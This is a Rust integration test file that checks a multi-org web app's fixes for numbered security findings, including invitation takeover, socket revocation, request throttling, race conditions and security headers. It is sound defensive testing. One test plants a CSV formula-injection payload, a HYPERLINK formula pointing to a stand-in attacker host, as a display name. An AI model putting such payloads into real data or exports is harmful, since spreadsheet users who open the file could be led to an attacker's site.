//! Issue "Hardening II": one test per numbered finding (`s01_…` for
//! finding 1, and so on), each first doing the legitimate thing and then
//! the attack, over real HTTP and WebSocket connections. Storage-related
//! findings run on both databases. Findings whose rule is pure are proven
//! where the rule lives (s05 in `app::people`, s12 in `server::http::client`).

use crate::both_backends;
use crate::common::{self, browser, browser_from, call, relay, scalar, session_cookie, sign_in, Tab, TestApp, ADMIN, OPERATOR};
use app::people::{InvitationState, InvitationView, InviteLink};
use futures::StreamExt;
use reqwest::StatusCode;
use std::time::Duration;

const ORG: &str = "org-northstar";
const PASSWORD: &str = "a long new password";
/// Every revocation reaches its sockets within this (the bound).
const REVOKED_WITHIN: Duration = Duration::from_secs(1);

fn token_of(link: &InviteLink) -> String {
    link.url.rsplit('/').next().unwrap().to_string()
}

/// A second org of the test's own, with its admin signed in.
async fn other_org(app: &TestApp, name: &str) -> (String, reqwest::Client) {
    let email = format!("admin@{}.example", name.to_lowercase());
    let org_id = server::seed::create_first_admin(app.running().store.as_ref(), name, &email, "Other Admin", PASSWORD).await.expect("org made");
    let admin = browser();
    let res = call(&admin, app, "sign_in", &[("email", &email), ("password", PASSWORD)]).await;
    assert_eq!(res.status(), StatusCode::OK);
    (org_id, admin)
}

async fn invite_client(admin: &reqwest::Client, app: &TestApp, email: &str) -> InviteLink {
    let res = call(admin, app, "invite_person", &[("email", email), ("display_name", "Pat Pending"), ("role", "client")]).await;
    assert_eq!(res.status(), StatusCode::OK, "{}", res.text().await.unwrap());
    res.json().await.unwrap()
}

async fn accept(client: &reqwest::Client, app: &TestApp, token: &str) -> reqwest::Response {
    call(client, app, "accept_invitation", &[("token", token), ("password", PASSWORD), ("confirm", PASSWORD)]).await
}

async fn signs_in(app: &TestApp, email: &str, password: &str) -> bool {
    call(&browser(), app, "sign_in", &[("email", email), ("password", password)]).await.status() == StatusCode::OK
}

async fn dana(app: &TestApp) -> reqwest::Client {
    let admin = browser();
    assert_eq!(sign_in(&admin, app, ADMIN).await.status(), StatusCode::OK);
    admin
}

// ---- 1. Pending invitees belong to the org that invited them --------------

both_backends!(s01_another_orgs_link_never_sets_a_pending_persons_password, |app: TestApp| async move {
    const PAT: &str = "pat.pending@example.org";
    let northstar = invite_client(&dana(&app).await, &app, PAT).await;
    let (_, harbor_admin) = other_org(&app, "Harbor Test").await;
    let harbor = invite_client(&harbor_admin, &app, PAT).await;
    // Harbor's link does not offer to set the pending account's password…
    let view: InvitationView = call(&browser(), &app, "load_invitation", &[("token", &token_of(&harbor))]).await.json().await.unwrap();
    assert_eq!(view.state, InvitationState::SignInFirst);
    // …and refuses to when asked anyway: nobody signs in with it.
    assert_eq!(accept(&browser(), &app, &token_of(&harbor)).await.status(), StatusCode::CONFLICT);
    assert!(!signs_in(&app, PAT, PASSWORD).await, "Harbor's admin did not take over Northstar's invitee");
    // Northstar's own link still works, once.
    let view: InvitationView = call(&browser(), &app, "load_invitation", &[("token", &token_of(&northstar))]).await.json().await.unwrap();
    assert_eq!(view.state, InvitationState::SetPassword);
    let set = accept(&browser(), &app, &token_of(&northstar)).await;
    assert!(set.status().is_success() || set.status().is_redirection(), "{}", set.status());
    assert!(signs_in(&app, PAT, PASSWORD).await);
});

// ---- 2. Relay sockets end with their credential ---------------------------

both_backends!(s02_relay_sockets_close_on_sign_out_and_on_token_rotation, |app: TestApp| async move {
    let session = common::attach_asha(&app, "uk-pick-01").await;
    let cookie = session_cookie(&app, OPERATOR).await;
    let mut cockpit = relay(&app, &session, None, Some(&cookie)).await.expect("the operator in control joins");
    let mut robot = relay(&app, &session, Some("uk-pick-01"), None).await.expect("the robot joins");
    // Signing the cookie out closes the open cockpit socket, not only new ones.
    let signed_in = browser();
    signed_in.post(app.url("/api/sign_out")).header("origin", &app.base).header("cookie", &cookie).send().await.unwrap();
    assert!(closes_within(&mut cockpit, REVOKED_WITHIN).await, "the cockpit's socket outlived its sign-out");
    assert_eq!(relay(&app, &session, None, Some(&cookie)).await.err(), Some(401));
    // Rotating the robot's token closes the socket opened with the old one.
    let rotated = call(&dana(&app).await, &app, "rotate_robot_token", &[("robot_id", "uk-pick-01")]).await;
    assert_eq!(rotated.status(), StatusCode::OK);
    assert!(closes_within(&mut robot, REVOKED_WITHIN).await, "the robot's socket outlived its token");
    assert_eq!(relay(&app, &session, Some("uk-pick-01"), None).await.err(), Some(401), "the old token opens nothing");
});

async fn closes_within(socket: &mut common::RelaySocket, within: Duration) -> bool {
    let deadline = tokio::time::Instant::now() + within;
    loop {
        match tokio::time::timeout_at(deadline, socket.next()).await {
            Err(_) => return false,
            Ok(None) | Ok(Some(Err(_))) | Ok(Some(Ok(tokio_tungstenite::tungstenite::Message::Close(_)))) => return true,
            Ok(Some(Ok(_))) => continue,
        }
    }
}

// ---- 3. Watch sockets end when the role they were opened with does ---------

both_backends!(s03_a_demoted_admins_watch_socket_closes_and_stays_shut, |app: TestApp| async move {
    let dana = dana(&app).await;
    assert_eq!(call(&dana, &app, "set_member_role", &[("user_id", "u-asha"), ("role", "admin")]).await.status(), StatusCode::OK);
    let cookie = session_cookie(&app, OPERATOR).await;
    let mut watch = Tab::open_path(&app, &cookie, "/ws?watch=org").await;
    let mut console = Tab::open(&app, &cookie).await;
    assert!(matches!(console.next().await, app::ring::RingMsg::Welcome { .. }));
    assert_eq!(call(&dana, &app, "set_member_role", &[("user_id", "u-asha"), ("role", "client")]).await.status(), StatusCode::OK);
    assert!(watch.closed_within(REVOKED_WITHIN).await, "the org's events kept flowing to a client");
    assert!(console.closed_within(REVOKED_WITHIN).await, "so did the console");
    assert_eq!(Tab::refused(&app, &cookie, "/ws?watch=org").await, 403, "and a new one is judged on the new role");
    // Removal too: an operator's console in the org closes.
    let vikram = session_cookie(&app, "vikram.iyer@northstar.example").await;
    let mut tab = Tab::open(&app, &vikram).await;
    assert!(matches!(tab.next().await, app::ring::RingMsg::Welcome { .. }));
    assert_eq!(call(&dana, &app, "remove_member", &[("user_id", "u-vikram")]).await.status(), StatusCode::OK);
    assert!(tab.closed_within(REVOKED_WITHIN).await);
});

// ---- 4. No unauthenticated work of the attacker's size ---------------------

/// Declares 4 MB to the import endpoint with no sign-in: the answer comes
/// before a byte of the body is sent.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn s04_an_unauthenticated_import_is_refused_before_its_body_is_read() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let app = TestApp::spawn(common::Db::Sqlite).await.unwrap();
    let head = |cookie: &str| {
        format!(
            "POST /api/preview_people_import HTTP/1.1\r\nhost: {}\r\norigin: {}\r\ncontent-type: application/x-www-form-urlencoded\r\ncontent-length: 4000000\r\n{cookie}\r\n",
            app.base.trim_start_matches("http://"),
            app.base
        )
    };
    let answer = |request: String| {
        let addr = app.running().addr;
        async move {
            let mut tcp = tokio::net::TcpStream::connect(addr).await.unwrap();
            tcp.write_all(request.as_bytes()).await.unwrap();
            let mut buf = vec![0u8; 256];
            let n = tokio::time::timeout(Duration::from_secs(5), tcp.read(&mut buf)).await.expect("answered without the body").unwrap();
            String::from_utf8_lossy(&buf[..n]).to_string()
        }
    };
    assert!(answer(head("")).await.starts_with("HTTP/1.1 413"), "signed out: refused unread");
    // An operator is no admin either.
    let operator = session_cookie(&app, OPERATOR).await;
    assert!(answer(head(&format!("cookie: {operator}\r\n"))).await.starts_with("HTTP/1.1 413"));
    // The org's admin may send a large CSV: nothing is answered until it comes.
    let admin = session_cookie(&app, ADMIN).await;
    let addr = app.running().addr;
    let mut tcp = tokio::net::TcpStream::connect(addr).await.unwrap();
    tcp.write_all(head(&format!("cookie: {admin}\r\n")).as_bytes()).await.unwrap();
    let mut buf = [0u8; 64];
    assert!(tokio::time::timeout(Duration::from_millis(500), tcp.read(&mut buf)).await.is_err(), "an admin's body is waited for");
}

/// Taking up invitation links is throttled like signing in, and a link
/// that does not exist is answered without hashing the password.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn s04_invitation_guesses_are_throttled_like_sign_ins() {
    let app = TestApp::spawn(common::Db::Sqlite).await.unwrap();
    let guesser = browser_from([127, 0, 0, 41]);
    let mut statuses = Vec::new();
    for _ in 0..8 {
        statuses.push(accept(&guesser, &app, "no-such-link").await.status());
    }
    assert_eq!(statuses[0], StatusCode::NOT_FOUND);
    assert_eq!(statuses.last(), Some(&StatusCode::TOO_MANY_REQUESTS), "{statuses:?}");
    // Another address is not held back by it.
    assert_eq!(accept(&browser_from([127, 0, 0, 42]), &app, "no-such-link").await.status(), StatusCode::NOT_FOUND);
}

// ---- 5. CSV cells that start a formula --------------------------------------

both_backends!(s05_a_formula_in_a_name_is_exported_as_text_and_imports_as_it_was, |app: TestApp| async move {
    const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x\",\"open\")";
    let dana = dana(&app).await;
    let res = call(&dana, &app, "invite_person", &[("email", "mal@example.org"), ("display_name", FORMULA), ("role", "client")]).await;
    assert_eq!(res.status(), StatusCode::OK, "{}", res.text().await.unwrap());
    let csv = dana.get(app.url("/admin/directory/people.csv")).send().await.unwrap().text().await.unwrap();
    let row = csv.lines().find(|l| l.contains("mal@example.org")).unwrap();
    assert!(row.contains("'=HYPERLINK"), "neutralised: {row}");
    assert!(!csv.lines().any(|line| line.split(',').any(|cell| cell.trim_start_matches('"').starts_with('='))), "no cell starts a formula:\n{csv}");
    // The exported line imports as the same name (for an email not yet a member).
    let again = format!("{}\n{}\n", app::people::CSV_HEADER.join(","), row.replace("mal@example.org", "mal2@example.org"));
    let preview: app::people::ImportPreview = call(&dana, &app, "preview_people_import", &[("csv", &again)]).await.json().await.unwrap();
    assert_eq!(preview.problems, vec![]);
    assert_eq!(preview.people[0].display_name, FORMULA);
});

// ---- 6. Framing and script policy --------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn s06_every_page_forbids_framing_and_limits_scripts() {
    let app = TestApp::spawn(common::Db::Sqlite).await.unwrap();
    let dana = dana(&app).await;
    for path in ["/signin", "/admin", "/admin/directory", "/no-such-page"] {
        let res = dana.get(app.url(path)).send().await.unwrap();
        let header = |name: &str| res.headers().get(name).map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
        assert!(header("content-security-policy").contains("frame-ancestors 'none'"), "{path}");
        assert!(header("content-security-policy").contains("script-src 'self'"), "{path}");
        assert_eq!(header("x-frame-options"), "DENY", "{path}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("referrer-policy"), "same-origin", "{path}");
    }
}

// ---- 7. Read-then-write races on PostgreSQL ------------------------------------

both_backends!(s07_one_link_accepted_twice_at_once_joins_once, |app: TestApp| async move {
    let dana = dana(&app).await;
    for round in 0..5 {
        let link = invite_client(&dana, &app, &format!("twice{round}@example.org")).await;
        let token = token_of(&link);
        let (one, two) = (browser_from([127, 0, 1, 1]), browser_from([127, 0, 1, 2]));
        let (a, b) = tokio::join!(accept(&one, &app, &token), accept(&two, &app, &token));
        let joined = [a.status(), b.status()].iter().filter(|s| s.is_success() || s.is_redirection()).count();
        assert_eq!(joined, 1, "round {round}: {} and {}", a.status(), b.status());
    }
    assert_eq!(scalar(&app.database_url(), "SELECT COUNT(*) FROM audit_records WHERE action = 'member_joined'").await, 5);
});

both_backends!(s07_two_admins_demoting_each_other_at_once_leave_one_admin, |app: TestApp| async move {
    let dana = dana(&app).await;
    for round in 0..5 {
        assert_eq!(call(&dana, &app, "set_member_role", &[("user_id", "u-asha"), ("role", "admin")]).await.status(), StatusCode::OK);
        let asha = browser();
        assert_eq!(sign_in(&asha, &app, OPERATOR).await.status(), StatusCode::OK);
        let (x, y) = tokio::join!(
            call(&dana, &app, "set_member_role", &[("user_id", "u-asha"), ("role", "operator")]),
            call(&asha, &app, "set_member_role", &[("user_id", "u-dana"), ("role", "operator")]),
        );
        let admins = scalar(&app.database_url(), &format!("SELECT COUNT(*) FROM memberships WHERE org_id = '{ORG}' AND role = 'admin'")).await;
        assert_eq!(admins, 1, "round {round}: {} and {}", x.status(), y.status());
        // Dana stays or becomes the admin for the next round.
        if scalar(&app.database_url(), &format!("SELECT COUNT(*) FROM memberships WHERE org_id = '{ORG}' AND user_id = 'u-dana' AND role = 'admin'")).await == 0 {
            assert_eq!(call(&asha, &app, "set_member_role", &[("user_id", "u-dana"), ("role", "admin")]).await.status(), StatusCode::OK);
            assert_eq!(call(&asha, &app, "set_member_role", &[("user_id", "u-asha"), ("role", "operator")]).await.status(), StatusCode::OK);
        }
    }
});

// ---- 11. One org's admin renames nobody of another org --------------------------

both_backends!(s11_an_admin_cannot_rename_a_person_who_belongs_to_other_orgs, |app: TestApp| async move {
    let (_, harbor_admin) = other_org(&app, "Harbor Test").await;
    let link = invite_client(&harbor_admin, &app, OPERATOR).await;
    let asha = browser();
    assert_eq!(sign_in(&asha, &app, OPERATOR).await.status(), StatusCode::OK);
    let joined = call(&asha, &app, "accept_invitation", &[("token", &token_of(&link))]).await;
    assert!(joined.status().is_success() || joined.status().is_redirection(), "{}", joined.status());
    let renamed = call(&harbor_admin, &app, "edit_member", &[("user_id", "u-asha"), ("display_name", "Someone Else"), ("active", "on")]).await;
    assert_eq!(renamed.status(), StatusCode::CONFLICT);
    let name: i64 = scalar(&app.database_url(), "SELECT COUNT(*) FROM users WHERE id = 'u-asha' AND display_name = 'Asha Rao'").await;
    assert_eq!(name, 1, "Northstar still sees Asha Rao");
    // Her own org's admin may still edit what is the org's (and, as before, a one-org person's name).
    let kept = call(&dana(&app).await, &app, "edit_member", &[("user_id", "u-asha"), ("display_name", "Asha Rao"), ("external_id", "NS-0101"), ("region", "BLR"), ("certifications[0]", "pick-place · tier-2"), ("active", "on")]).await;
    assert_eq!(kept.status(), StatusCode::OK, "{}", kept.text().await.unwrap());
});

// ---- 14. No oracles ----------------------------------------------------------------

both_backends!(s14_an_expired_link_is_reissued_and_the_new_one_works, |app: TestApp| async move {
    let dana = dana(&app).await;
    let first = invite_client(&dana, &app, "late@example.org").await;
    // While the link is open, inviting again is refused (it is on the list).
    let again = call(&dana, &app, "invite_person", &[("email", "late@example.org"), ("display_name", "Pat Pending"), ("role", "client")]).await;
    assert_eq!(again.status(), StatusCode::CONFLICT);
    common::execute(&app.database_url(), "UPDATE invitations SET expires_at = 1 WHERE email = 'late@example.org'").await;
    assert_eq!(accept(&browser(), &app, &token_of(&first)).await.status(), StatusCode::NOT_FOUND, "expired");
    let second = invite_client(&dana, &app, "late@example.org").await;
    let set = accept(&browser(), &app, &token_of(&second)).await;
    assert!(set.status().is_success() || set.status().is_redirection(), "{}", set.status());
    assert!(signs_in(&app, "late@example.org", PASSWORD).await);
});
